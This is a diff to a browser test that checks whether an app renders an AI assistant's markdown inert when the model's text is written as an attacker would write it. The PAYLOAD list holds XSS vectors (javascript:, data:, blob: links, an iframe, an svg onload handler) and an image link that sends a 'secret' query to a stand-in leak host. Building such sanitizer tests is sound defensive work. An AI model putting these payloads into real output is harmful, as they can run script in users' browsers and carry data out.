@@ -1,8 +1,8 @@
 """Model text as an attacker would write it, rendered in the real app: nothing runs, nothing loads.
 
 The assistant's markdown is rendered without raw HTML and sanitized: no script, no event handler, no
-`javascript:`/`data:` link, no image (an image URL could carry data out), and no request to anywhere
-the text names.
+`javascript:`/`data:`/`blob:`/relative link (links only leave the app), no image (an image URL could carry
+data out), and no request to anywhere the text names.
 """
 
 from __future__ import annotations
@@ -23,6 +23,8 @@ PAYLOAD = "\n\n".join(
         f"![chart]({LEAK}?d=secret)",
         "[click me](javascript:window.__pwned='link')",
         "[data link](data:text/html,<script>alert(1)</script>)",
+        "[blob link](blob:http://127.0.0.1/0b6c6d52-1f2e-4a8e-9d7f-2d5b1c0e9a11)",
+        "[relative link](/assets/x.svg) and [up](../x.html)",
         "<a href=\"javascript:window.__pwned='raw'\">raw link</a>",
         "<iframe src=\"javascript:window.__pwned='frame'\"></iframe>",
         "<svg onload=\"window.__pwned='svg'\"></svg>",
@@ -44,6 +46,9 @@ def test_hostile_markdown_renders_inert(connected_app: App, fake: FakeLLM) -> No
         expect(reply.locator(selector)).to_have_count(0)
     hrefs = reply.locator("a").evaluate_all("els => els.map(e => e.getAttribute('href') || '')")
     assert not [h for h in hrefs if h.lower().startswith(("javascript:", "data:"))], hrefs
+    # Links only leave the app: a blob: or relative link would open a document of the app's origin.
+    assert all(h == "" or h.startswith(("http://", "https://", "mailto:")) for h in hrefs), hrefs
+    assert reply.get_by_text("blob link").count() == 1 and reply.get_by_text("relative link").count() == 1
     reply.get_by_text("click me").click()
     assert page.evaluate("() => window.__pwned ?? null") is None
     assert not [r for r in connected_app.traffic.requests if LEAK in r], connected_app.traffic.requests
